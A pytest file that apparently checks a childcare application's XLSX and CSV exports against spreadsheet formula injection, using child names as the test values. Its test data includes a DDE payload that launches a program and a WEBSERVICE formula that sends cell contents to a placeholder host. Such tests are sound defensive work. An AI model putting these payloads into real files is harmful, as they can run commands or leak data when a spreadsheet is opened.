"""Row 17: a name or a note that a spreadsheet would obey stands in the table as it was typed."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import pytest

from tvaerfaglig.domain.people import Child
from tvaerfaglig.services.lists import tables
from tvaerfaglig.services.lists.tables import Form, Which

OBEYED = (
    "=1+1",
    '=HYPERLINK("http://x.invalid";"tryk")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    '=WEBSERVICE("http://x.invalid/"&A1)',
)


@pytest.fixture
def listed(world):
    """Twelve children whose names a spreadsheet would obey, taken out as a table."""
    hanne = world.session("hanne")
    with hanne.write() as pen:
        for number, name in enumerate(OBEYED):
            child = Child(
                name=name, born=date(2022, 1, 1), dagtilbud="maelkeboetten", stue="solsikken"
            )
            pen.put(child, f"x{number}")
    return lambda form: tables.take_out(hanne, Which.CHILDREN, form).content


def test_no_cell_of_a_workbook_is_a_formula(listed):
    """Read as what is packed in the file, not by the library that wrote it: text cells, and every name there."""
    with zipfile.ZipFile(io.BytesIO(listed(Form.XLSX))) as packed:
        parts = {
            name: packed.read(name).decode() for name in packed.namelist() if name.endswith(".xml")
        }
    pages = [text for name, text in parts.items() if "/worksheets/" in name]
    assert pages
    for page in pages:
        assert not re.search(r"<(\w+:)?f[ >/]", page)
        assert not re.search(r'\bt="(str|e)"', page)
    said = "".join(parts.values())
    for name in ("HYPERLINK", "calc", "WEBSERVICE", "@SUM"):
        assert name in said
    assert not any("externalLink" in name for name in parts)


def test_no_cell_of_a_csv_begins_what_would_be_obeyed(listed):
    """The sign before it is seen and can be taken away; nothing else is changed."""
    rows = list(csv.reader(io.StringIO(listed(Form.CSV).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if re.match(r"\s*[=+\-@＝＋－＠|%]", cell)]
    for name in OBEYED:
        assert [cell for cell in cells if name.strip() in cell]
